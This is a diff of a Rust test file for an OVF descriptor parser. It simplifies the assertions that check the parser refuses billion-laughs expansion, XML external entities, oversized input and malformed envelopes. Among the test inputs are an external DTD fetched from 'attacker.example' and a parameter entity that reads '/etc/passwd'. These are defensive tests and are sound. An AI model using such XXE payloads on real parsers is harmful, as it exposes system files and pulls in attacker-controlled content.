@@ -28,10 +28,17 @@ fn billion_laughs_is_refused() {
         ),
     );
     let err = parse(xml.as_bytes()).unwrap_err();
-    assert!(
-        matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("DTD")),
-        "{err}"
-    );
+    assert!(refused_with(&err, ErrorKind::Unsupported, "DTD"), "{err}");
+}
+
+/// The error is of `kind` and its message says `word`.
+fn refused_with(err: &Error, kind: ErrorKind, word: &str) -> bool {
+    err.kind == kind && err.message.contains(word)
+}
+
+/// The kind of error `parse` refuses `input` with; None when it parses.
+fn refusal(input: &[u8]) -> Option<ErrorKind> {
+    parse(input).err().map(|e| e.kind)
 }
 
 #[test]
@@ -42,139 +49,46 @@ fn external_entities_are_refused() {
   <VirtualSystem ovf:id="vm"><Info>x</Info><Name>&x;</Name></VirtualSystem>
 </Envelope>"#;
     let err = parse(xxe.as_bytes()).unwrap_err();
-    assert!(
-        matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("DTD")),
-        "{err}"
-    );
+    assert!(refused_with(&err, ErrorKind::Unsupported, "DTD"), "{err}");
     // An external DTD subset without internal declarations is refused too.
     let ext = r#"<?xml version="1.0"?>
 <!DOCTYPE Envelope SYSTEM "http://attacker.example/evil.dtd">
 <Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"/>"#;
-    assert!(matches!(
-        parse(ext.as_bytes()),
-        Err(Error {
-            kind: ErrorKind::Unsupported,
-            ..
-        })
-    ));
+    assert_eq!(refusal(ext.as_bytes()), Some(ErrorKind::Unsupported));
     let param = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><r/>";
-    assert!(matches!(
-        parse(param.as_bytes()),
-        Err(Error {
-            kind: ErrorKind::Unsupported,
-            ..
-        })
-    ));
+    assert_eq!(refusal(param.as_bytes()), Some(ErrorKind::Unsupported));
     // Without a DTD an entity reference is just malformed.
     let undeclared = envelope(r#"<VirtualSystem ovf:id="vm"><Info>&x;</Info></VirtualSystem>"#);
-    assert!(matches!(
-        parse(undeclared.as_bytes()),
-        Err(Error {
-            kind: ErrorKind::Corrupt,
-            ..
-        })
-    ));
+    assert_eq!(refusal(undeclared.as_bytes()), Some(ErrorKind::Corrupt));
 }
 
 #[test]
 fn not_an_envelope() {
-    type Expect = fn(&Error) -> bool;
-    let cases: [(&[u8], Expect); 9] = [
-        (b"", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
-        (b"   \n  ", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
-        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
-        (b"KDMV\x01\0\0\0 not xml", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
-        (b"<html><body>hello</body></html>", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
-        (b"<?xml version='1.0'?><Envelope/>", |e| {
-            matches!(
-                e,
-                Error {
-                    kind: ErrorKind::NotAnImage,
-                    ..
-                }
-            )
-        }),
+    let cases: [(&[u8], ErrorKind); 9] = [
+        (b"", ErrorKind::NotAnImage),
+        (b"   \n  ", ErrorKind::NotAnImage),
+        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", ErrorKind::NotAnImage),
+        (b"KDMV\x01\0\0\0 not xml", ErrorKind::NotAnImage),
+        (b"<html><body>hello</body></html>", ErrorKind::NotAnImage),
+        (b"<?xml version='1.0'?><Envelope/>", ErrorKind::NotAnImage),
         (
             b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'/>",
-            |e| {
-                matches!(
-                    e,
-                    Error {
-                        kind: ErrorKind::NotAnImage,
-                        ..
-                    }
-                )
-            },
+            ErrorKind::NotAnImage,
         ),
         (
             b"<Envelope xmlns='http://schemas.dmtf.org/ovf/envelope/3'/>",
-            |e| {
-                matches!(
-                    e,
-                    Error {
-                        kind: ErrorKind::Unsupported,
-                        ..
-                    }
-                )
-            },
+            ErrorKind::Unsupported,
         ),
         (
             b"<Envelope xmlns='http://schemas.dmtf.org/ovf/envelope/1'><References>",
-            |e| {
-                matches!(
-                    e,
-                    Error {
-                        kind: ErrorKind::Corrupt,
-                        ..
-                    }
-                )
-            },
+            ErrorKind::Corrupt,
         ),
     ];
     for (input, expected) in cases {
         let err = parse(input).unwrap_err();
-        assert!(
-            expected(&err),
+        assert_eq!(
+            err.kind,
+            expected,
             "{:?}: {err}",
             String::from_utf8_lossy(input)
         );
@@ -187,15 +101,11 @@ fn not_an_envelope() {
 #[test]
 fn size_and_node_limits() {
     let huge = vec![b' '; MAX_DESCRIPTOR_BYTES + 1];
-    assert!(
-        matches!(parse(&huge), Err(Error { kind: ErrorKind::Unsupported, message: m }) if m.contains("MiB"))
-    );
+    let err = parse(&huge).unwrap_err();
+    assert!(refused_with(&err, ErrorKind::Unsupported, "MiB"), "{err}");
     let many: String = "<a/>".repeat(MAX_NODES as usize + 1);
     let err = parse(envelope(&many).as_bytes()).unwrap_err();
-    assert!(
-        matches!(err, Error { kind: ErrorKind::Unsupported, message: ref m } if m.contains("nodes")),
-        "{err}"
-    );
+    assert!(refused_with(&err, ErrorKind::Unsupported, "nodes"), "{err}");
 }
 
 #[test]
@@ -223,13 +133,7 @@ fn encodings() {
     utf16be.extend(VBOX_1_0.encode_utf16().flat_map(u16::to_be_bytes));
     assert_eq!(parse(&utf16be).unwrap().systems[0].memory, Some(2 << 30));
     let latin1 = [VMWARE.as_bytes(), b"<!-- caf\xe9 -->"].concat();
-    assert!(matches!(
-        parse(&latin1),
-        Err(Error {
-            kind: ErrorKind::NotAnImage,
-            ..
-        })
-    ));
+    assert_eq!(refusal(&latin1), Some(ErrorKind::NotAnImage));
 }
 
 /// xorshift64*: deterministic pseudo-random numbers for the mutation loop.
